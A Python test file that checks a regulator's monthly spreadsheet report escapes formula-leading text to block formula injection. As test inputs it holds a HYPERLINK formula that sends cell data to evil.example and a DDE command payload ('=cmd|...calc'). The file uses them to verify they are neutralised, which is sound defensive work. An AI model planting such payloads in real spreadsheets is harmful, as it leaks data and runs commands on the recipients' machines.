"""Formula injection (issue 21 item 9): an enterprise's name is the enterprise's to choose; the monthly
report writes it, and any other text, so that a spreadsheet never runs it as a formula."""

import io
from datetime import date, datetime
from decimal import Decimal

import openpyxl

from aftersales.regulator.workbook import workbook_bytes

NAME = '=HYPERLINK("https://evil.example/?"&B2,"甲企业")'


def test_the_report_writes_formula_leading_text_as_text_and_numbers_as_numbers():
    row = {
        "case_no": "C-2026-0001",
        "kind": "初次认证",
        "enterprise": NAME,
        "credit_code": "91330100MA2XXXXX0X",
        "scheme": "@gbt27922-2011",
        "status": "-submitted",
        "submitted_on": date(2026, 9, 3),
    }
    plan = {"case_no": "C-2026-0001", "enterprise": "+甲", "man_days": Decimal("-1.5")}
    data = workbook_bytes(
        {"applications": [row], "plans": [plan]},
        meta={
            "cb": "=cmd|' /C calc'!A0",
            "cb_code": "CB1",
            "month": date(2026, 9, 1),
            "generated_at": datetime(2026, 10, 1),
        },
    )
    book = openpyxl.load_workbook(io.BytesIO(data))
    applications, plans = book.worksheets[1], book.worksheets[2]
    values = [c.value for c in applications[2]]
    assert values[2] == "'" + NAME and values[4] == "'@gbt27922-2011" and values[5] == "'-submitted"
    assert [c.value for c in plans[2]][1] == "'+甲"
    assert [c.value for c in plans[2]][5] == -1.5  # a number stays a number
    about = [c.value for row in book.worksheets[0].iter_rows() for c in row if c.value]
    assert "'=cmd|' /C calc'!A0" in about
